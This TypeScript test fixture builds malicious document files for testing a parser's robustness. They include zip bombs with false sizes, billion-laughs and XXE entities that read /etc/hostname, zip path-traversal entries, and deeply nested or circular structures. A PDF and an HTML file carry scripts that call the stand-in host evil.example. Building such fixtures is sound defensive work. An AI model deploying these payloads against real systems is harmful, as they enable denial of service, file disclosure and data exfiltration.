import { strToU8, zipSync } from 'fflate';
import { letter } from '../../documents/testing/made.ts';

/** Documents that try to harm their reader, by name. */

const MB = 1_000_000;

/** A Word document whose text is this XML. */
export function docxOf(xml: string): Uint8Array {
  const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  return zipSync({
    '[Content_Types].xml': strToU8(
      `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
    ),
    '_rels/.rels': strToU8(
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    ),
    'word/document.xml': strToU8(xml),
  });
}

const WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
export const docxText = (text: string, before = ''): Uint8Array =>
  docxOf(
    `${before}<w:document ${WORD}><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
  );

/** A workbook with this sheet and these shared texts. */
export function xlsxOf(sheet: Uint8Array, texts = '<sst/>'): Uint8Array {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  return zipSync({
    '[Content_Types].xml': strToU8('<Types/>'),
    'xl/workbook.xml': strToU8(
      `<workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': strToU8(
      `<Relationships><Relationship Id="r1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    ),
    'xl/sharedStrings.xml': strToU8(texts),
    'xl/worksheets/sheet1.xml': sheet,
  });
}

/** Ten entities, each ten of the one before. */
const LAUGHS = `<!DOCTYPE w [<!ENTITY a0 "ha">${Array.from({ length: 10 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join('')}]>`;
const OUTSIDE = '<!DOCTYPE w [<!ENTITY file SYSTEM "file:///etc/hostname">]>';

/** An archive that declares a larger size for its first part. */
function lying(archive: Uint8Array, size: number): Uint8Array {
  const file = Buffer.from(archive);
  file.writeUInt32LE(size, file.indexOf('PK\x01\x02') + 24);
  return file;
}

/** A PDF with these objects; the first is its catalogue. */
export function pdfOf(objects: readonly string[]): Uint8Array {
  const numbered = objects.map((object, i) => `${i + 1} 0 obj\n${object}\nendobj\n`).join('');
  return strToU8(
    `%PDF-1.4\n${numbered}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\n%%EOF\n`,
    true,
  );
}

export const stream = (content: string, more = ''): string =>
  `<< ${more} /Length ${content.length} >>\nstream\n${content}\nendstream`;
const TREE = '<< /Type /Pages /Count 1 /Kids [3 0 R] >>';
const page = (resources: string): string =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << ${resources} >> /Contents 4 0 R >>`;
const SHOWN = stream('BT /F1 12 Tf 72 720 Td (Visible text) Tj ET');
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const CATALOGUE = '<< /Type /Catalog /Pages 2 0 R >>';

/** A PDF of one page with this content stream. */
export const shownBy = (content: string): Uint8Array =>
  pdfOf([CATALOGUE, TREE, page('/Font << /F1 5 0 R >>'), content, FONT]);

/** Branches of leaves, as writers of PDFs make them. */
function manyPages(branches: number, leaves: number): Uint8Array {
  const numbers = Array.from({ length: branches }, (_, i) => 4 + i);
  const refs = (from: number, count: number): string =>
    Array.from({ length: count }, (_, i) => `${from + i} 0 R`).join(' ');
  const firstLeaf = 4 + branches;
  const firstText = firstLeaf + branches * leaves;
  return pdfOf([
    CATALOGUE,
    `<< /Type /Pages /Count ${branches * leaves} /Kids [${refs(4, branches)}] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...numbers.map(
      (_, i) =>
        `<< /Type /Pages /Parent 2 0 R /Count ${leaves} /Kids [${refs(firstLeaf + i * leaves, leaves)}] >>`,
    ),
    ...Array.from(
      { length: branches * leaves },
      (_, i) =>
        `<< /Type /Page /Parent ${4 + Math.floor(i / leaves)} 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents ${firstText + i} 0 R >>`,
    ),
    ...Array.from({ length: branches * leaves }, (_, i) =>
      stream(`BT /F1 12 Tf 72 720 Td (Leaf ${i + 1}) Tj ET`),
    ),
  ]);
}

export const HOSTILE: Readonly<Record<string, () => Uint8Array | string>> = {
  'lying.docx': () => lying(zipSync({ 'word/document.xml': new Uint8Array(MB) }), 250 * MB),
  'zeros.docx': () => docxOf('\u0000'.repeat(30 * MB)),
  'laughs.docx': () => docxText('&a10;', LAUGHS),
  'outside.docx': () => docxText('&file;', OUTSIDE),
  'deep.docx': () => docxOf(`${'<w:p>'.repeat(200_000)}${'</w:p>'.repeat(200_000)}`),
  'paths.docx': () => zipSync({ '../../../evil.txt': strToU8('x'), '/etc/evil': strToU8('x') }),
  'parts.docx': () =>
    zipSync(Object.fromEntries(Array.from({ length: 11_000 }, (_, i) => [`p${i}`, strToU8('')])), {
      level: 0,
    }),
  'half.docx': () => letter().subarray(0, 300),
  'zeros.xlsx': () => xlsxOf(new Uint8Array(30 * MB)),
  'lying.xlsx': () => lying(xlsxOf(strToU8('<worksheet/>')), 250 * MB),
  'laughs.xlsx': () =>
    xlsxOf(
      strToU8('<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'),
      `${LAUGHS}<sst><si><t>&a10;</t></si></sst>`,
    ),
  'far.xlsx': () =>
    xlsxOf(
      strToU8(
        '<worksheet><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>',
      ),
    ),
  'row.csv': () => `a,b\n"${'x'.repeat(2 * MB)}`,
  'pages.pdf': () => manyPages(100, 100),
  'circle.pdf': () => pdfOf([CATALOGUE, '<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>']),
  'many.pdf': () => pdfOf([CATALOGUE, '<< /Type /Pages /Count 2147483647 /Kids [3 0 R] >>', page(''), SHOWN]),
  'font.pdf': () =>
    pdfOf([
      CATALOGUE,
      TREE,
      page('/Font << /F1 5 0 R >>'),
      SHOWN,
      '<< /Type /Font /Subtype /TrueType /BaseFont /Broken /FirstChar 0 /LastChar 9999999 /Widths [1 (x) 6 0 R] /FontDescriptor 6 0 R /ToUnicode 7 0 R >>',
      '<< /Type /FontDescriptor /FontName /Broken /FontFile2 7 0 R >>',
      stream('\u0000\u0001\u0000\u0000 this is no font '.repeat(100)),
    ]),
  'script.pdf': () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("PWNED"\\)) >> /AA << /WC << /S /JavaScript /JS (this.submitForm\\("http://evil.example/PWNED"\\)) >> >> >>',
      TREE,
      page('/Font << /F1 5 0 R >>'),
      SHOWN,
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ]),
  'flate.pdf': () =>
    pdfOf([CATALOGUE, TREE, page(''), stream('not deflated at all', '/Filter /FlateDecode')]),
  'script.html': () =>
    `<html><head><script>document.write("PWNED")</script><style>p:after{content:"PWNED"}</style></head><body onload="alert('PWNED')"><p>Visible text</p><iframe src="javascript:alert('PWNED')">PWNED</iframe><img src=x onerror="fetch('//evil.example/PWNED')"><noscript>PWNED</noscript><template>PWNED</template><object data="PWNED">PWNED</object><script type="text/template"><p>PWNED</p></script></body></html>`,
  'deep.html': () => `${'<div>'.repeat(50_000)}x${'</div>'.repeat(50_000)}`,
  'bytes.txt': () => Uint8Array.from({ length: 5000 }, (_, i) => (i * 7919) % 256),
};
